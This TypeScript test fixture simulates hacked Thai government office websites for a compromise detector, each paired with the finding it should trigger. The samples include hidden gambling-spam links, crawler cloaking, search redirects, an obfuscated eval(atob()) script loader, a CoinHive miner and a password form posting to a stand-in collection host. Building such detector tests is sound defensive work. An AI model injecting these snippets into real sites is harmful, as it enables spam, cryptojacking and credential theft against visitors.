import { officePage } from './office.ts'
import type { InfectedSample, SampleSite } from './sample.ts'

const CASINO =
  '<a href="https://casino-sample.example/">สล็อตเว็บตรง แตกง่าย</a> <a href="https://casino-sample.example/2">บาคาร่าออนไลน์ เครดิตฟรี</a>'
const front =
  (html: string): SampleSite =>
  (path) =>
    path === '/' ? html : below(path)
const below = (path: string) =>
  /^\/(?:about|structure|news|plan|budget|tourism|contact)$/.test(path)
    ? officePage({ title: `หน้า ${path.slice(1)}` })
    : undefined
const clean = front(officePage())
const base64 = (text: string) => Buffer.from(text).toString('base64')

/** Sites that were broken into, each in another way. */
export const INFECTED: readonly InfectedSample[] = [
  {
    id: 'links-off-screen',
    site: front(officePage({ after: `<div style="position:absolute;left:-9999px">${CASINO}</div>` })),
    expected: ['gambling-spam critical'],
  },
  {
    id: 'links-by-class',
    site: front(
      officePage({
        head: '<style>.x9{font-size:0px;color:#fff} @media print{.x9{font-size:12px}}</style>',
        after: `<p class="x9">${CASINO}</p>`,
      }),
    ),
    expected: ['gambling-spam critical'],
  },
  {
    id: 'links-white-on-white',
    site: front(
      officePage({
        after: `<div style="background:#fff"><p>ยินดีต้อนรับ</p><span style="color:#ffffff">${CASINO}</span></div>`,
      }),
    ),
    expected: ['gambling-spam critical'],
  },
  {
    id: 'visible-advertisement',
    site: front(
      officePage({ main: '<p>เว็บพนันออนไลน์อันดับ 1 สมัครวันนี้ รับโบนัส ฝากถอนออโต้ ไม่มีขั้นต่ำ บาคาร่าออนไลน์ ufabet</p>' }),
    ),
    expected: ['gambling-spam critical'],
  },
  {
    id: 'loan-advertisement',
    site: front(
      officePage({
        after:
          '<p><a href="https://loan-sample.example/">กู้เงินด่วน ไม่เช็คบูโร อนุมัติไว</a> <a href="https://loan-sample.example/b">เงินด่วนโอนไว ได้จริง</a></p>',
      }),
    ),
    expected: ['gambling-spam critical'],
  },
  {
    id: 'description-replaced',
    site: front(
      officePage({ head: '<meta name="description" content="สล็อตเว็บตรง 2026 แตกง่าย เครดิตฟรี สมัครสล็อต ฝากถอนออโต้">' }),
    ),
    expected: ['gambling-spam critical'],
  },
  {
    id: 'hidden-shop-links',
    site: front(
      officePage({
        after:
          '<div style="height:0;overflow:hidden"><a href="https://shoes-a.example/">cheap shoes</a><a href="https://bags-b.example/">bags outlet</a><a href="https://watch-c.example/">watches</a></div>',
      }),
    ),
    expected: ['hidden-links critical'],
  },
  {
    id: 'cloaked-for-crawlers',
    site: (path, reader) =>
      path === '/' && reader === 'crawler'
        ? officePage({ title: 'สล็อตเว็บตรง', main: `<h2>สล็อตแตกง่าย เครดิตฟรี</h2>${CASINO}` })
        : clean(path, reader),
    expected: ['cloaking critical'],
  },
  {
    id: 'cloaked-links',
    site: (path, reader) =>
      path === '/' && reader === 'crawler'
        ? officePage({
            main: Array.from(
              { length: 12 },
              (_, i) => `<p><a href="https://shop-${i}.example/">luxury watches outlet ${'abcdefghijkl'[i]}</a></p>`,
            ).join(''),
          })
        : clean(path, reader),
    expected: ['cloaking critical'],
  },
  {
    id: 'redirect-from-search',
    site: (path, reader) =>
      path === '/' && reader === 'search'
        ? { status: 302, location: 'http://win.casino-sample.example/' }
        : clean(path, reader),
    expected: ['foreign-redirect critical'],
  },
  {
    id: 'script-redirect',
    site: front(
      officePage({
        after:
          '<script>if(document.referrer.indexOf("google")>-1){window.location.href="https://go.win-sample.example/th"}</script>',
      }),
    ),
    expected: ['foreign-redirect critical'],
  },
  {
    id: 'meta-refresh',
    before: clean,
    accepted: true,
    site: front(officePage({ head: '<meta http-equiv="refresh" content="3;url=https://go.win-sample.example/">' })),
    expected: ['foreign-redirect critical'],
  },
  {
    id: 'concealed-script',
    site: front(
      officePage({
        after: `<script>eval(atob("${base64("var s=document.createElement('script');s.src='https://cdn.stat-sample.example/x.js';document.head.appendChild(s)")}"))</script>`,
      }),
    ),
    expected: ['malicious-script critical'],
  },
  {
    id: 'miner',
    site: front(officePage({ after: '<script>var miner=new CoinHive.Anonymous("k");miner.start()</script>' })),
    expected: ['malicious-script critical'],
  },
  {
    id: 'hidden-frame',
    before: clean,
    accepted: true,
    site: front(
      officePage({ after: '<iframe src="https://frame.stat-sample.example/" width="1" height="1"></iframe>' }),
    ),
    expected: ['malicious-script critical', 'unknown-host warning'],
  },
  {
    id: 'new-script-host',
    before: clean,
    site: front(officePage({ after: '<script src="https://cdn.stat-sample.example/x.js"></script>' })),
    expected: ['unknown-host warning'],
  },
  {
    id: 'stolen-sign-in',
    before: clean,
    accepted: true,
    site: front(
      officePage({
        main: '<form action="https://collect.stat-sample.example/in"><input name="u"><input type="password" name="p"></form>',
      }),
    ),
    expected: ['unknown-host critical'],
  },
  {
    id: 'defaced-boast',
    site: front(
      '<html><head><title>Hacked by Sample Crew</title></head><body bgcolor="black"><h1>Hacked by Sample Crew</h1><p>your security is low</p></body></html>',
    ),
    expected: ['defaced critical'],
  },
  {
    id: 'defaced-silently',
    before: clean,
    accepted: true,
    site: front(
      `<html lang="en"><head><title>Free the people</title></head><body>${'<p>We came to tell the world the truth about everything.</p>'.repeat(8)}</body></html>`,
    ),
    expected: ['defaced critical'],
  },
  {
    id: 'defaced-while-learning',
    before: clean,
    site: front(
      `<html lang="en"><head><title>Free the people</title></head><body>${'<p>We came to tell the world the truth about everything.</p>'.repeat(8)}</body></html>`,
    ),
    expected: ['defaced warning'],
  },
  {
    id: 'suspended',
    site: front(
      '<html><head><title>Account Suspended</title></head><body><h1>This account has been suspended.</h1></body></html>',
    ),
    expected: ['suspended critical'],
  },
  {
    id: 'parked',
    site: front(
      '<html><head><title>thung-sample.go.th</title></head><body><p>This domain is for sale. Buy this domain.</p></body></html>',
    ),
    expected: ['parked critical'],
  },
  {
    id: 'japanese-pages',
    before: clean,
    looks: 2,
    site: (path) =>
      path === '/'
        ? officePage({ after: '<a href="/shop/123.html">.</a>' })
        : path === '/shop/123.html'
          ? `<html lang="ja"><head><title>激安ブランド通販</title></head><body>${'<p>スーパーコピー 送料無料 最安値 ブランド時計の専門店です。</p>'.repeat(5)}</body></html>`
          : below(path),
    expected: ['foreign-pages critical', 'gambling-spam critical'],
  },
  {
    id: 'planted-sitemap',
    site: (path, reader) =>
      path === '/sitemap.xml'
        ? {
            type: 'application/xml',
            body: `<urlset>${Array.from({ length: 40 }, (_, i) => `<url><loc>http://www.thung-sample.go.th/slot-online-gacor-${i}/</loc></url>`).join('')}</urlset>`,
          }
        : clean(path, reader),
    expected: ['foreign-pages critical'],
  },
]
